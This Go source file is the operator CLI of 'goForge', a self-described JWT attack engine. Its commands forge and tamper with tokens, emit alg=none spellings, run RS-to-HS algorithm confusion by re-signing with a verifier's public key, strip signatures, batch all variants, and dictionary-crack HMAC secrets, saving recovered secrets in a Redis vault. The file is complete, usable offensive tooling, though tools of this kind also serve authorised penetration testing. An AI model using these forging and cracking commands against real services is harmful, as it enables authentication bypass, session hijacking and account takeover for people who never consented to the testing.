// Command goforge is the operator CLI for the goForge token attack engine.
//
// It decodes and mutates JWTs, produces downgrade and confusion variants,
// and runs dictionary attacks against HMAC-signed tokens.
//
// Usage:
//
//	goforge <command> [flags] <token>
//
// Commands:
//
//	decode   pretty-print header, claims, and signature diagnostics
//	verify   check the signature against an algorithm and key
//	sign     re-sign the token with a new algorithm and key
//	tamper   shift or remove one claim, then re-serialize
//	none     emit alg=none spellings of the token
//	confuse  rewrite the header alg to provoke a verifier family mismatch
//	strip    drop the signature, keeping the trailing dot
//	sweep    emit the full variant batch for one token
//	crack    run a dictionary attack from a wordlist or the weak list
//	report   print the engine configuration snapshot
//
// The token is the final positional argument; "-" reads it from stdin.
// Keys load from files as PEM (PKCS#1, PKCS#8, SEC1, PKIX) or as OpenSSH
// authorized_keys lines. HMAC secrets pass as -secret instead of a file.
//
// Examples:
//
//	goforge decode "$TOKEN"
//	goforge verify -alg HS256 -secret s3cr3t "$TOKEN"
//	goforge tamper -claim exp -offset 720h "$TOKEN"
//	goforge confuse -target HS256 -resign -key server.pub "$TOKEN"
//	goforge crack -wordlist rockyou.txt -vault "$TOKEN"
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"
	"time"

	goForge "github.com/MrEthical07/goForge"
	"github.com/MrEthical07/goForge/alg"
	"github.com/MrEthical07/goForge/attack"
	"github.com/MrEthical07/goForge/crack"
	"github.com/MrEthical07/goForge/token"

	"github.com/alicebob/miniredis/v2"
	"github.com/redis/go-redis/v9"
)

func main() {
	if len(os.Args) < 2 {
		printUsage()
		os.Exit(2)
	}

	cmd, args := os.Args[1], os.Args[2:]

	var (
		code int
		err  error
	)
	switch cmd {
	case "decode":
		code, err = cmdDecode(args)
	case "verify":
		code, err = cmdVerify(args)
	case "sign":
		code, err = cmdSign(args)
	case "tamper":
		code, err = cmdTamper(args)
	case "none":
		code, err = cmdNone(args)
	case "confuse":
		code, err = cmdConfuse(args)
	case "strip":
		code, err = cmdStrip(args)
	case "sweep":
		code, err = cmdSweep(args)
	case "crack":
		code, err = cmdCrack(args)
	case "report":
		code, err = cmdReport(args)
	case "help", "-h", "-help", "--help":
		printUsage()
		return
	default:
		fmt.Fprintf(os.Stderr, "goforge: unknown command %q\n\n", cmd)
		printUsage()
		os.Exit(2)
	}

	if err != nil {
		fmt.Fprintln(os.Stderr, "goforge:", err)
		os.Exit(1)
	}
	os.Exit(code)
}

func printUsage() {
	fmt.Fprint(os.Stderr, `usage: goforge <command> [flags] <token>

commands:
  decode   pretty-print header, claims, and signature diagnostics
  verify   check the signature against an algorithm and key
  sign     re-sign the token with a new algorithm and key
  tamper   shift or remove one claim, then re-serialize
  none     emit alg=none spellings of the token
  confuse  rewrite the header alg to provoke a verifier family mismatch
  strip    drop the signature, keeping the trailing dot
  sweep    emit the full variant batch for one token
  crack    run a dictionary attack from a wordlist or the weak list
  report   print the engine configuration snapshot

run "goforge <command> -h" for per-command flags.
`)
}

// ---------------------------------------------------------------------------
// Commands
// ---------------------------------------------------------------------------

func cmdDecode(args []string) (int, error) {
	fs := flag.NewFlagSet("decode", flag.ExitOnError)
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}

	engine, cleanup, err := buildEngine(engineOptions{audit: *audit})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	t, err := engine.ParseToken(context.Background(), raw)
	if err != nil {
		return 0, err
	}

	printSegmentDump("header", t.HeaderRaw(), t.HeaderErr())
	printSegmentDump("claims", t.PayloadRaw(), t.PayloadErr())

	switch {
	case !t.HasSignatureSegment():
		fmt.Println("signature: absent (two-segment token)")
	case t.SignatureRaw() == "":
		fmt.Println("signature: empty segment")
	default:
		sig, sigErr := t.SignatureBytes()
		if sigErr != nil {
			fmt.Printf("signature: undecodable base64url (%d chars): %v\n", len(t.SignatureRaw()), sigErr)
		} else {
			fmt.Printf("signature: %d bytes (%d base64url chars)\n", len(sig), len(t.SignatureRaw()))
		}
	}

	algName := t.Algorithm()
	if algName == "" {
		fmt.Println("alg: (not present)")
	} else {
		fmt.Printf("alg: %s\n", algName)
	}
	if _, known := alg.FromHeaderString(algName); !known && t.SignatureRaw() != "" {
		if spec, ok := alg.InferFromSignature(t.SignatureRaw()); ok {
			fmt.Printf("hint: signature length matches %s\n", spec)
		}
	}
	return 0, nil
}

func cmdVerify(args []string) (int, error) {
	fs := flag.NewFlagSet("verify", flag.ExitOnError)
	algName := fs.String("alg", "", "algorithm to verify under (required, e.g. HS256)")
	keyPath := fs.String("key", "", "key file (PEM or authorized_keys)")
	secret := fs.String("secret", "", "HMAC secret (instead of -key)")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}
	spec, err := resolveSpec(*algName)
	if err != nil {
		return 0, err
	}
	key, err := loadKey(*keyPath, *secret)
	if err != nil {
		return 0, err
	}

	engine, cleanup, err := buildEngine(engineOptions{audit: *audit})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	valid, err := engine.Verify(ctx, t, spec, key)
	if err != nil {
		return 0, err
	}
	if valid {
		fmt.Println("signature: VALID")
		return 0, nil
	}
	fmt.Println("signature: INVALID")
	return 1, nil
}

func cmdSign(args []string) (int, error) {
	fs := flag.NewFlagSet("sign", flag.ExitOnError)
	algName := fs.String("alg", "", "algorithm to sign with (required, e.g. HS256)")
	keyPath := fs.String("key", "", "private key file (PEM)")
	secret := fs.String("secret", "", "HMAC secret (instead of -key)")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}
	spec, err := resolveSpec(*algName)
	if err != nil {
		return 0, err
	}
	key, err := loadKey(*keyPath, *secret)
	if err != nil {
		return 0, err
	}

	engine, cleanup, err := buildEngine(engineOptions{audit: *audit})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	signed, err := engine.Sign(ctx, t, spec, key)
	if err != nil {
		return 0, err
	}
	out, err := engine.SerializeToken(ctx, signed)
	if err != nil {
		return 0, err
	}
	fmt.Println(out)
	return 0, nil
}

func cmdTamper(args []string) (int, error) {
	fs := flag.NewFlagSet("tamper", flag.ExitOnError)
	claim := fs.String("claim", "", "claim name to tamper with (required)")
	offset := fs.Duration("offset", 0, "shift a numeric timestamp claim by this duration (e.g. 720h, -15m)")
	remove := fs.Bool("remove", false, "remove the claim instead of shifting it")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}
	if *claim == "" {
		return 0, fmt.Errorf("tamper: -claim is required")
	}
	if *remove == (*offset != 0) {
		return 0, fmt.Errorf("tamper: use exactly one of -offset or -remove")
	}

	engine, cleanup, err := buildEngine(engineOptions{audit: *audit})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	var out *token.Token
	if *remove {
		out, err = engine.RemoveClaim(ctx, t, *claim)
	} else {
		out, err = engine.OffsetTimestamp(ctx, t, *claim, *offset)
	}
	if err != nil {
		return 0, err
	}
	serialized, err := engine.SerializeToken(ctx, out)
	if err != nil {
		return 0, err
	}
	fmt.Println(serialized)
	return 0, nil
}

func cmdNone(args []string) (int, error) {
	fs := flag.NewFlagSet("none", flag.ExitOnError)
	extended := fs.Bool("extended", false, "include whitespace and null-byte spellings")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}

	engine, cleanup, err := buildEngine(engineOptions{
		audit: *audit,
		mutate: func(cfg *goForge.Config) {
			if *extended {
				cfg.Attack.NoneVariants = attack.ExtendedNoneVariants()
			}
		},
	})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	variants, err := engine.AlgNone(ctx, t)
	if err != nil {
		return 0, err
	}
	printVariants(variants)
	return 0, nil
}

func cmdConfuse(args []string) (int, error) {
	fs := flag.NewFlagSet("confuse", flag.ExitOnError)
	target := fs.String("target", "", "HMAC algorithm to downgrade to (required, e.g. HS256)")
	keyPath := fs.String("key", "", "verifier public key file (PEM or authorized_keys)")
	resign := fs.Bool("resign", false, "re-sign with the public key bytes as the HMAC secret (needs -key)")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}
	spec, err := resolveSpec(*target)
	if err != nil {
		return 0, err
	}
	if *resign && *keyPath == "" {
		return 0, fmt.Errorf("confuse: -resign needs -key with the verifier public key")
	}

	engine, cleanup, err := buildEngine(engineOptions{audit: *audit})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	var variant attack.Variant
	if *resign {
		key, kerr := loadKey(*keyPath, "")
		if kerr != nil {
			return 0, kerr
		}
		variant, err = engine.ConfuseAlgorithmResign(ctx, t, spec, key)
	} else {
		variant, err = engine.ConfuseAlgorithm(ctx, t, spec)
	}
	if err != nil {
		return 0, err
	}
	printVariants([]attack.Variant{variant})
	return 0, nil
}

func cmdStrip(args []string) (int, error) {
	fs := flag.NewFlagSet("strip", flag.ExitOnError)
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}

	engine, cleanup, err := buildEngine(engineOptions{audit: *audit})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	variant, err := engine.StripSignature(ctx, t)
	if err != nil {
		return 0, err
	}
	printVariants([]attack.Variant{variant})
	return 0, nil
}

func cmdSweep(args []string) (int, error) {
	fs := flag.NewFlagSet("sweep", flag.ExitOnError)
	keyPath := fs.String("key", "", "verifier public key file for resign confusion (PEM or authorized_keys)")
	extended := fs.Bool("extended", false, "include whitespace and null-byte none spellings")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}

	key := alg.NoKey()
	if *keyPath != "" {
		key, err = loadKey(*keyPath, "")
		if err != nil {
			return 0, err
		}
	}

	engine, cleanup, err := buildEngine(engineOptions{
		audit: *audit,
		mutate: func(cfg *goForge.Config) {
			if *extended {
				cfg.Attack.NoneVariants = attack.ExtendedNoneVariants()
			}
			if *keyPath != "" {
				cfg.Attack.IncludeResignConfusion = true
			}
		},
	})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	variants, err := engine.AttackSweep(ctx, t, key)
	if err != nil {
		return 0, err
	}
	printVariants(variants)
	return 0, nil
}

func cmdCrack(args []string) (int, error) {
	fs := flag.NewFlagSet("crack", flag.ExitOnError)
	wordlist := fs.String("wordlist", "", "newline-separated candidate secrets file")
	weak := fs.Bool("weak", false, "use the built-in weak secret list instead of a wordlist")
	infer := fs.Bool("infer", false, "infer the HMAC algorithm from the signature length when the header lies")
	useVault := fs.Bool("vault", false, "consult and persist recoveries in the Redis vault")
	redisAddr := fs.String("redis-addr", "", "redis address for the vault (falls back to REDIS_ADDR, then embedded miniredis)")
	progress := fs.Duration("progress", 2*time.Second, "progress line interval on stderr (0 disables)")
	audit := fs.Bool("audit", false, "stream audit events as JSON lines to stderr")
	_ = fs.Parse(args)

	raw, err := tokenArg(fs)
	if err != nil {
		return 0, err
	}
	if *weak == (*wordlist != "") {
		return 0, fmt.Errorf("crack: use exactly one of -wordlist or -weak")
	}

	engine, cleanup, err := buildEngine(engineOptions{
		audit:     *audit,
		vault:     *useVault,
		redisAddr: *redisAddr,
		mutate: func(cfg *goForge.Config) {
			cfg.Crack.InferAlgorithmFromSignature = *infer
		},
	})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	ctx := context.Background()
	t, err := engine.ParseToken(ctx, raw)
	if err != nil {
		return 0, err
	}

	if *useVault {
		if known, verr := engine.LookupRecoveredSecret(ctx, t); verr == nil {
			fmt.Printf("vault: secret already recovered: %q\n", known)
			return 0, nil
		}
	}

	var run *crack.Run
	if *weak {
		run, err = engine.QuickScan(ctx, t)
	} else {
		f, ferr := os.Open(*wordlist)
		if ferr != nil {
			return 0, ferr
		}
		defer f.Close()
		run, err = engine.StartCrack(ctx, t, crack.NewReaderSource(f))
	}
	if err != nil {
		return 0, err
	}

	var tick <-chan time.Time
	if *progress > 0 {
		ticker := time.NewTicker(*progress)
		defer ticker.Stop()
		tick = ticker.C
	}
	done := run.Done()
	for waiting := true; waiting; {
		select {
		case <-done:
			waiting = false
		case <-tick:
			p := run.Progress()
			if p.TotalKnown {
				fmt.Fprintf(os.Stderr, "crack: tested %d/%d candidates\n", p.Attempts, p.Total)
			} else {
				fmt.Fprintf(os.Stderr, "crack: tested %d candidates\n", p.Attempts)
			}
		}
	}

	res, _ := run.Result()
	switch res.State {
	case crack.StateFound:
		fmt.Printf("secret found after %d attempts: %q\n", res.Attempts, res.Secret)
		if *useVault {
			reportVaultSave(ctx, engine, t)
		}
		return 0, nil
	case crack.StateExhausted:
		if res.Err != nil {
			return 0, fmt.Errorf("wordlist stopped after %d attempts: %w", res.Attempts, res.Err)
		}
		fmt.Printf("no match in %d candidates\n", res.Attempts)
		return 1, nil
	default:
		fmt.Printf("cancelled after %d attempts\n", res.Attempts)
		return 1, nil
	}
}

// reportVaultSave waits briefly for the recovery watcher to persist the
// secret. The write happens on the watcher goroutine after the run finishes,
// so a found result does not mean the record is readable yet.
func reportVaultSave(ctx context.Context, engine *goForge.Engine, t *token.Token) {
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := engine.LookupRecoveredSecret(ctx, t); err == nil {
			fmt.Println("vault: recovery persisted")
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	fmt.Fprintln(os.Stderr, "vault: recovery not visible yet")
}

func cmdReport(args []string) (int, error) {
	fs := flag.NewFlagSet("report", flag.ExitOnError)
	asJSON := fs.Bool("json", false, "print the report as JSON")
	_ = fs.Parse(args)

	engine, cleanup, err := buildEngine(engineOptions{})
	if err != nil {
		return 0, err
	}
	defer cleanup()

	report := engine.EngineReport()
	if *asJSON {
		out, merr := json.MarshalIndent(report, "", "  ")
		if merr != nil {
			return 0, merr
		}
		fmt.Println(string(out))
		return 0, nil
	}

	defaultCfg := goForge.DefaultConfig()
	warnings := defaultCfg.Lint()

	specs := engine.SupportedAlgorithms()
	names := make([]string, 0, len(specs))
	for _, s := range specs {
		names = append(names, s.String())
	}

	fmt.Printf("%-22s %s\n", "algorithms:", strings.Join(names, ", "))
	fmt.Printf("%-22s %s\n", "ecdsa encoding:", report.ECDSAEncoding)
	fmt.Printf("%-22s %s\n", "none variants:", strings.Join(report.NoneVariants, ", "))
	fmt.Printf("%-22s %t\n", "resign confusion:", report.ResignConfusionActive)
	fmt.Printf("%-22s %d\n", "max crack runs:", report.MaxConcurrentRuns)
	fmt.Printf("%-22s %d\n", "progress every:", report.ProgressEvery)
	fmt.Printf("%-22s %t\n", "alg inference:", report.InferenceActive)
	fmt.Printf("%-22s %d\n", "weak secrets:", report.WeakSecretCount)
	fmt.Printf("%-22s %t\n", "vault:", report.VaultActive)
	if report.VaultActive {
		fmt.Printf("%-22s %s\n", "vault prefix:", report.VaultPrefix)
		fmt.Printf("%-22s %s\n", "vault ttl:", report.VaultTTL)
	}
	fmt.Printf("%-22s %t\n", "audit:", report.AuditActive)
	fmt.Printf("%-22s %t\n", "metrics:", report.MetricsActive)
	fmt.Printf("%-22s %d\n", "active crack runs:", report.ActiveCrackRuns)

	if len(warnings) > 0 {
		fmt.Println("lint:")
		for _, w := range warnings {
			fmt.Printf("  [%s] %s: %s\n", w.Severity, w.Code, w.Message)
		}
	}
	return 0, nil
}

// ---------------------------------------------------------------------------
// Engine assembly
// ---------------------------------------------------------------------------

type engineOptions struct {
	// mutate adjusts the default config before the engine is built.
	mutate func(*goForge.Config)
	// vault wires a Redis-backed recovery vault. The address comes from
	// redisAddr, then REDIS_ADDR, then an embedded miniredis.
	vault     bool
	redisAddr string
	// audit streams events as JSON lines to stderr.
	audit bool
}

func buildEngine(opts engineOptions) (*goForge.Engine, func(), error) {
	cfg := goForge.DefaultConfig()
	if opts.mutate != nil {
		opts.mutate(&cfg)
	}

	var closers []func()
	cleanup := func() {
		for i := len(closers) - 1; i >= 0; i-- {
			closers[i]()
		}
	}

	b := goForge.New()

	if opts.vault {
		addr := opts.redisAddr
		if addr == "" {
			addr = os.Getenv("REDIS_ADDR")
		}
		if addr == "" {
			mr, err := miniredis.Run()
			if err != nil {
				return nil, nil, fmt.Errorf("start embedded miniredis: %w", err)
			}
			closers = append(closers, mr.Close)
			addr = mr.Addr()
			fmt.Fprintf(os.Stderr, "vault: no redis address, using embedded miniredis at %s (records are lost on exit)\n", addr)
		}
		rdb := redis.NewUniversalClient(&redis.UniversalOptions{Addrs: []string{addr}})
		closers = append(closers, func() { _ = rdb.Close() })
		cfg.Vault.Enabled = true
		b = b.WithRedis(rdb)
	}

	if opts.audit {
		cfg.Audit.Enabled = true
		b = b.WithAuditSink(goForge.NewJSONWriterSink(os.Stderr))
	}

	for _, w := range cfg.Lint().BySeverity(goForge.LintHigh) {
		fmt.Fprintf(os.Stderr, "goforge: config warning [%s] %s: %s\n", w.Severity, w.Code, w.Message)
	}

	engine, err := b.WithConfig(cfg).Build()
	if err != nil {
		cleanup()
		return nil, nil, err
	}
	closers = append(closers, func() { _ = engine.Close() })
	return engine, cleanup, nil
}

// ---------------------------------------------------------------------------
// Input helpers
// ---------------------------------------------------------------------------

// tokenArg returns the positional token argument; "-" reads stdin.
func tokenArg(fs *flag.FlagSet) (string, error) {
	if fs.NArg() != 1 {
		return "", fmt.Errorf("expected exactly one token argument (use \"-\" for stdin)")
	}
	raw := fs.Arg(0)
	if raw != "-" {
		return raw, nil
	}
	b, err := io.ReadAll(os.Stdin)
	if err != nil {
		return "", fmt.Errorf("read stdin: %w", err)
	}
	return strings.TrimSpace(string(b)), nil
}

func resolveSpec(name string) (alg.Spec, error) {
	if name == "" {
		return 0, fmt.Errorf("-alg is required (one of: %s)", supportedNames())
	}
	spec, ok := alg.FromHeaderString(name)
	if !ok {
		return 0, fmt.Errorf("unknown algorithm %q (one of: %s)", name, supportedNames())
	}
	return spec, nil
}

func supportedNames() string {
	specs := alg.Supported()
	names := make([]string, 0, len(specs))
	for _, s := range specs {
		names = append(names, s.String())
	}
	return strings.Join(names, ", ")
}

// loadKey classifies key material for the requested operation. A non-empty
// secret wins; otherwise the file is tried as a private key first, then as a
// public key (PEM or authorized_keys).
func loadKey(path, secret string) (alg.Key, error) {
	if secret != "" {
		return alg.SecretKey([]byte(secret)), nil
	}
	if path == "" {
		return alg.NoKey(), nil
	}
	data, err := os.ReadFile(path)
	if err != nil {
		return alg.NoKey(), err
	}
	if key, perr := alg.ParsePrivateKey(data); perr == nil {
		return key, nil
	}
	key, err := alg.ParsePublicKey(data)
	if err != nil {
		return alg.NoKey(), fmt.Errorf("%s: not a recognizable private or public key: %w", path, err)
	}
	return key, nil
}

// ---------------------------------------------------------------------------
// Output helpers
// ---------------------------------------------------------------------------

func printSegmentDump(label, segment string, segErr error) {
	decoded, err := token.DecodeSegment(segment)
	if err != nil {
		fmt.Printf("%s: undecodable base64url: %v\n", label, err)
		fmt.Printf("  raw segment: %s\n", segment)
		return
	}

	var buf bytes.Buffer
	if json.Indent(&buf, decoded, "  ", "  ") == nil {
		fmt.Printf("%s:\n  %s\n", label, buf.String())
	} else {
		fmt.Printf("%s: not JSON\n  raw bytes: %q\n", label, decoded)
	}
	if segErr != nil {
		fmt.Printf("  note: %v\n", segErr)
	}
}

func printVariants(variants []attack.Variant) {
	for i, v := range variants {
		fmt.Printf("%2d. [%s] %s\n", i+1, v.Kind, v.Description)
		fmt.Printf("    %s\n", v.Serialize())
	}
}
